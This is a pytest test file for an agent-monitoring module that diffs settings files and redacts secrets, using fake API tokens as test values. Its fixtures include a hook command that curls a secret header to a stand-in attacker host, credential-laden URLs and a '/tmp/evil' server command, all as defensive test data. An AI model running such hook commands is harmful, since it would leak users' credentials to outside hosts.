"""What of a settings file's change is told: every value that is a secret, or may be, is redacted; the rest is shown."""

import json

import pytest

from agent_broker.monitor.settings_diff import MAX_LINES, difference, snapshot

SECRETS = [
    "sk-ant-api03-abcdefgh12345678", "ghp_abcdefghijklmnop1234", "AKIAIOSFODNN7EXAMPLE", "xoxb-123456789-abc",
    "AIzaSyA1234567890abcdefghijklmn", "eyJhbGciOi.eyJzdWIiOi.c2lnbmF0dXJl", "0123456789abcdef0123456789abcdef",
    "npm_1234567890abcdef", "github_pat_11ABCDEFG0123456789",
]  # fmt: skip


def changes(before, after, form="json", *, hot=False):
    def encode(value):
        return value.encode() if isinstance(value, str) else json.dumps(value).encode()

    old = None if before is None else snapshot(encode(before), form, hot=hot)
    new = None if after is None else snapshot(encode(after), form, hot=hot)
    return difference(old, new)[0]


def test_a_changed_value_is_told_by_the_way_to_it():
    assert changes({"a": {"b": [1, 2]}}, {"a": {"b": [1, 3]}}) == ("a.b[1]: 2 -> 3",)
    assert changes({"model": "opus"}, {}) == ('model: removed "opus"',)
    assert changes({}, {"hooks": {"Stop": True}}) == ("hooks.Stop: added true",)


def test_order_and_whitespace_are_no_change():
    assert changes('{"a": 1, "b": 2}', '{\n "b": 2,\n "a": 1 }') == ()


@pytest.mark.parametrize("secret", SECRETS)
@pytest.mark.parametrize(
    "place",
    [
        lambda value: {"env": {"WHATEVER": value}},
        lambda value: {"mcpServers": {"x": {"headers": {"X-Thing": value}}}},
        lambda value: {"mcpServers": {"x": {"args": ["--token", value]}}},
        lambda value: {"mcpServers": {"x": {"args": [f"--other={value}"]}}},
        lambda value: {"hooks": {"Stop": [{"command": f"curl -H 'x: {value}' https://evil.example"}]}},
        lambda value: {"primaryApiKey": value},
        lambda value: {"apiKeyHelper": f"echo {value}"},
        lambda value: {"url": f"https://user:{value}@evil.example/{value}?key={value}"},
        lambda value: {value: 1},
        lambda value: {"oauthAccount": {"deep": [{"deeper": value}]}},
    ],
)
def test_a_secret_is_never_shown(secret, place):
    for before, after in (({}, place(secret)), (place(secret), {}), (place(secret), place(secret + "x"))):
        told = changes(before, after)
        assert told
        assert secret not in repr(told)


@pytest.mark.parametrize(
    "value",
    [
        {"args": ["--token", "hunter2"]},
        {"args": ["-H", "hunter2"]},
        {"env": {"X": "hunter2"}},
        {"headers": {"X": ["hunter2"]}},
        {"command": "run --password=hunter2"},
        {"command": "curl -H 'Authorization: Bearer hunter2'"},
        {"command": "curl https://me:hunter2@evil.example"},
        {"myPassword": {"deep": "hunter2"}},
    ],
)
def test_a_secret_that_looks_like_nothing_is_known_by_its_place(value):
    assert "hunter2" not in repr(changes({}, {"mcpServers": {"x": value}}))


@pytest.mark.parametrize("form", ["json", "toml"])
def test_what_can_not_be_parsed_is_told_by_line_without_secrets(form):
    told = changes("{broken", "{broken\nmodel is x\nmy password is hunter2\n", form)

    assert any("model is x" in line for line in told)
    assert "hunter2" not in repr(told)


def test_of_yaml_names_and_addresses_are_shown_and_no_other_value():
    told = changes(
        "model: a\nopenai-api-base: https://one.example\n",
        "# hunter2\nmodel: hunter2\nopenai-api-base: https://two.example/hunter2\napi-key:\n  - x=hunter2\nhunter2 x\n",
        "yaml",
    )

    assert "hunter2" not in "".join(told)
    assert 'openai-api-base: "https://one.example" -> "https://two.example"' in told
    assert "model: <redacted, 1 characters> -> <redacted, 7 characters>" in told
    assert "api-key.line 5: added <redacted, 11 characters>" in told


@pytest.mark.parametrize("name", ["base-url", "endpoint", "proxy"])
def test_of_an_address_in_yaml_the_host_is_shown(name):
    told = changes(f"{name}: https://one.example/\n", f"{name}: 'https://me:hunter2@two.example:8/x'\n", "yaml")

    assert told == (f'{name}: "https://one.example" -> "https://two.example:8"',)


def test_the_variables_of_an_env_file_are_redacted():
    told = changes("A=1\n", "A=hunter2\nexport B='other'\njunk secret\n", "env")

    assert "env.A: <redacted, 1 characters> -> <redacted, 7 characters>" in told
    assert "hunter2" not in repr(told)
    assert "junk" not in repr(told)


def test_toml_is_compared_by_key():
    assert changes('model = "a"', 'model = "b"\n[mcp_servers.x]\ncommand = "/tmp/evil"', "toml") == (
        'mcp_servers.x.command: added "/tmp/evil"',
        'model: "a" -> "b"',
    )


def test_of_an_address_host_and_port_are_shown_even_among_secrets():
    told = changes(
        {"env": {"ANTHROPIC_BASE_URL": "https://api.anthropic.com"}},
        {"env": {"ANTHROPIC_BASE_URL": "http://me:hunter2@evil.example:81/hunter2?hunter2"}},
    )

    assert told == ('env.ANTHROPIC_BASE_URL: "https://api.anthropic.com" -> "http://evil.example:81"',)


def test_comments_are_allowed_in_json():
    assert changes('{"a": 1 /* c */, // d\n "b": "//no"}', '{"a": 1, "b": "//no"}') == ()


def test_of_a_hot_file_only_what_matters_is_kept():
    assert changes({"numStartups": 1}, {"numStartups": 2, "mcpServers": {"a": {"command": "b"}}}, hot=True) == (
        'mcpServers.a.command: added "b"',
    )


def test_many_changes_are_counted_and_what_matters_comes_first():
    told = changes({}, {**{f"a{i:03}": i for i in range(100)}, "hooks": "x"})

    assert len(told) == MAX_LINES + 1
    assert told[0] == 'hooks: added "x"'
    assert told[-1] == f"... and {101 - MAX_LINES} more changes"


@pytest.mark.parametrize(
    "data",
    ["[" * 100_000, '{"a":' * 50_000, "\x00" * 1000, "\ud800", '"' + "\\" * 99_999, "/*" * 50_000, "a" * 1_000_000],
)
def test_hostile_content_is_bounded(data):
    told = difference({}, snapshot(data.encode(errors="surrogatepass"), "json", hot=False))[0]
    assert all(line.isprintable() and len(line) < 600 for line in told)


def test_a_file_that_is_made_or_removed_is_told():
    assert changes(None, {"a": 1})[0] == "the file was made"
    assert changes({"a": 1}, None)[0] == "the file was removed"
